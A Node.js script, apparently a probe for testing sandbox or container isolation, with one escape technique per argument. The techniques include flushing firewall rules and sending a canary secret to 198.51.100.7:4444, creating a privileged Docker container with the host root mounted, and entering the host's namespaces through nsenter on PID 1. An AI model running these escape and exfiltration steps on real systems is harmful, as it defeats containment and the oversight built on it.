// Uses whatever right the job has to undo what holds it.
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';

const run = (program, ...args) => {
  const { status, stdout, stderr, error } = spawnSync(program, args, { encoding: 'utf8', timeout: 4000 });
  console.log(program, status, error?.code ?? stderr, stdout);
};
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const send = () => {
  const socket = connect(4444, '198.51.100.7', () => socket.end(process.env.CANARY));
  socket.setTimeout(2000, () => socket.destroy());
  socket.on('error', (error) => console.log(error.code));
};
const ways = {
  firewall: () => {
    run('nft', 'flush', 'ruleset');
    run('ip', 'link', 'set', 'lo', 'up');
    send();
  },
  routes: () => {
    run('ip', 'route', 'del', 'blackhole', '198.51.100.0/24', 'table', 'local');
    send();
  },
  sudo: () => run('/usr/bin/replay-sudo', '0.4'),
  'container-service': () => {
    const create = { socketPath: '/run/docker.sock', path: '/containers/create', method: 'POST' };
    request(create)
      .on('error', (error) => console.log(error.code))
      .end('{"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}');
  },
  'new-namespaces': () => run('unshare', '--user', '--map-root-user', '--mount', 'sleep', '0.4'),
  'namespaces-of-the-host': () =>
    run('nsenter', '--target', '1', '--mount', 'touch', `/run/replay/escaped-${process.env.CANARY}`),
  'hidden-files-uncovered': () => run('/opt/replay/call', 'umount2 s:/proc/sys 2', 'sleep 300'),
  'limits-of-process-1': () => run('/opt/replay/call', `prlimit64 1 7 x:${'0700000000000000'.repeat(2)}`, 'sleep 300'),
  'who-ends-first': async () => {
    try {
      writeFileSync('/proc/self/oom_score_adj', '0');
    } catch (error) {
      console.log(error.code);
    }
    await wait(300);
  },
};
await ways[process.argv[2]]();
